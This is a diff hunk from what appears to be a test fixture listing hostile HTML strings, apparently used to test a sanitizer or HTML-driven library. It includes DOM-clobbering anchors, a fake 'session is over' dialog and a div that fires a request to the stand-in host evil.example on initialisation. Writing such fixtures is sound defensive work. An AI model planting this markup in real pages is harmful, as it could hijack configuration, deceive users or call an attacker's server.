@@ -68,7 +68,7 @@ const MARKUP = [
   `<plaintext>`,
   `<!DOCTYPE html><html><head>`,
   `<dialog open>Your session is over</dialog>`,
-  `<a id=fixiCfg><a id=fixiCfg name=transition href="x:y">`,
+  `<a id=news><a id=news name=dataset href="x:y">`,
   `<div fx-action="//evil.example" fx-trigger="fx:inited">x</div>`,
   `<div data-live="main">x</div>`,
   `<p hidden data-copy="x">`,
